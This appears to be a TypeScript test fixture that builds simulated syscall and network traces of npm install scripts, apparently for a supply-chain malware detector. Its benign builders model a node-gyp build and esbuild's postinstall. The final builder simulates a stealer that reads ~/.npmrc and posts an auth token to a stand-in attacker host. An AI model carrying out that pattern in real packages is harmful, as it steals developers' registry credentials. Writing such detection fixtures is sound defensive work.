import { BehaviorBuilder, HOME, npmHousekeeping, PKG_DIR, WORKDIR } from './builder.js';

/**
 * A native addon built with node-gyp, as `npm rebuild` of bcrypt/sqlite3 looks under strace:
 * node-gyp looks up nodejs.org for headers (cached here), runs make → g++ → cc1plus/as/collect2/ld,
 * writes objects under build/ and headers under ~/.cache/node-gyp, the linker marks its output
 * executable, temp files in /tmp, and npm's own housekeeping around it.
 */
export function nodeGypBuild(): BehaviorBuilder {
  const b = new BehaviorBuilder();
  const npm = b.npm();
  npmHousekeeping(b, npm);
  const sh = b.lifecycle('node-gyp rebuild', npm);
  const gyp = b.child(sh, ['node', '/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js', 'rebuild'], { exe: '/usr/bin/node' });
  b.read(gyp, `${HOME}/.cache/node-gyp/20.20.0/include/node/common.gypi`);
  b.write(gyp, `${HOME}/.cache/node-gyp/20.20.0/installVersion`);
  b.read(gyp, '/proc/self/status');
  b.read(gyp, '/proc/self/cgroup');
  const py = b.child(gyp, ['python3', '-c', 'import sys; print(sys.executable)'], { exe: '/usr/bin/python3' });
  b.read(py, '/usr/lib/python3.11/os.py');
  const gypMain = b.child(gyp, ['python3', '/usr/lib/node_modules/npm/node_modules/node-gyp/gyp/gyp_main.py', 'binding.gyp', '-f', 'make'], { exe: '/usr/bin/python3' });
  b.write(gypMain, `${PKG_DIR}/build/Makefile`);
  b.write(gypMain, `${PKG_DIR}/build/config.gypi`);
  const make = b.child(gyp, ['make', 'BUILDTYPE=Release', '-C', 'build'], { exe: '/usr/bin/make', cwd: `${PKG_DIR}/build` });
  const shMake = b.child(make, ['/bin/sh', '-c', 'g++ -o Release/obj.target/addon/src/addon.o ../src/addon.cc -MMD -MF ./Release/.deps/addon.o.d.raw -c'], { exe: '/bin/sh' });
  const gpp = b.child(shMake, ['g++', '-o', 'Release/obj.target/addon/src/addon.o', '../src/addon.cc', '-c'], { exe: '/usr/bin/g++', cwd: `${PKG_DIR}/build` });
  const cc1 = b.child(gpp, ['/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus', '-quiet', '../src/addon.cc', '-o', '/tmp/ccA1b2C3.s'], { exe: '/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus' });
  b.write(cc1, '/tmp/ccA1b2C3.s');
  const as = b.child(gpp, ['as', '--64', '-o', 'Release/obj.target/addon/src/addon.o', '/tmp/ccA1b2C3.s'], { exe: '/usr/bin/as' });
  b.write(as, `${PKG_DIR}/build/Release/obj.target/addon/src/addon.o`);
  const link = b.child(make, ['g++', '-shared', '-o', 'Release/obj.target/addon.node', 'Release/obj.target/addon/src/addon.o'], { exe: '/usr/bin/g++' });
  const collect2 = b.child(link, ['/usr/lib/gcc/x86_64-linux-gnu/12/collect2', '-shared', '-o', 'Release/obj.target/addon.node'], { exe: '/usr/lib/gcc/x86_64-linux-gnu/12/collect2' });
  const ld = b.child(collect2, ['/usr/bin/ld', '-shared', '-o', 'Release/obj.target/addon.node'], { exe: '/usr/bin/ld' });
  b.write(ld, `${PKG_DIR}/build/Release/obj.target/addon.node`);
  b.file(ld, 'chmod', `${PKG_DIR}/build/Release/obj.target/addon.node`, { mode: '755' });
  b.write(ld, '/tmp/ccXyZ123.ld');
  b.file(ld, 'chmod', '/tmp/ccXyZ123.ld', { mode: '755' });
  b.file(ld, 'delete', '/tmp/ccXyZ123.ld');
  const cp = b.child(shMake, ['cp', '-af', 'Release/obj.target/addon.node', 'Release/addon.node'], { exe: '/bin/cp' });
  b.write(cp, `${PKG_DIR}/build/Release/addon.node`);
  b.file(gyp, 'delete', `${PKG_DIR}/build/config.gypi`);
  // node-gyp asks nodejs.org for headers when the cache is cold; offline that fails.
  b.dns('nodejs.org', gyp);
  b.connect(gyp, '104.20.22.46', 443, { hostname: 'nodejs.org', result: 'ECONNREFUSED' });
  b.tls('nodejs.org', gyp);
  return b;
}

/**
 * esbuild's postinstall: `node install.js` finds @esbuild/linux-x64, hard-links the binary over
 * its JS shim in bin/ (link + rename inside the package), then runs `bin/esbuild --version`.
 */
export function esbuildPostinstall(): BehaviorBuilder {
  const b = new BehaviorBuilder();
  const npm = b.npm();
  npmHousekeeping(b, npm);
  const sh = b.lifecycle('node install.js', npm);
  const node = b.child(sh, ['node', 'install.js'], { exe: '/usr/bin/node' });
  b.read(node, `${PKG_DIR}/install.js`);
  b.read(node, `${PKG_DIR}/package.json`);
  b.read(node, `${WORKDIR}/node_modules/@esbuild/linux-x64/package.json`);
  b.read(node, '/proc/self/cgroup');
  b.read(node, '/proc/self/status');
  b.file(node, 'create', `${PKG_DIR}/bin-esbuild`);
  b.file(node, 'rename', `${PKG_DIR}/bin-esbuild`, { target: `${PKG_DIR}/bin/esbuild` });
  const version = b.child(node, [`${PKG_DIR}/bin/esbuild`, '--version'], { exe: `${PKG_DIR}/bin/esbuild` });
  b.file(version, 'exec', `${PKG_DIR}/bin/esbuild`);
  b.read(version, '/sys/kernel/mm/transparent_hugepage/hpage_pmd_size');
  const echo = b.lifecycle('echo "thanks for installing"', npm);
  void echo;
  void WORKDIR;
  return b;
}

/** The malicious counterpart used across tests: reads ~/.npmrc and posts it to a .example host. */
export function npmrcStealer(): BehaviorBuilder {
  const b = new BehaviorBuilder();
  const npm = b.npm();
  npmHousekeeping(b, npm);
  const sh = b.lifecycle('node steal.js', npm);
  const node = b.child(sh, ['node', 'steal.js']);
  b.read(node, `${HOME}/.npmrc`);
  b.dns('collect.attacker.example', node);
  b.connect(node, '203.0.113.7', 80, { hostname: 'collect.attacker.example', sentBytes: 240 });
  b.http('collect.attacker.example', 'POST', '/u', '//registry.npmjs.org/:_authToken=npm_FAKE', node);
  return b;
}
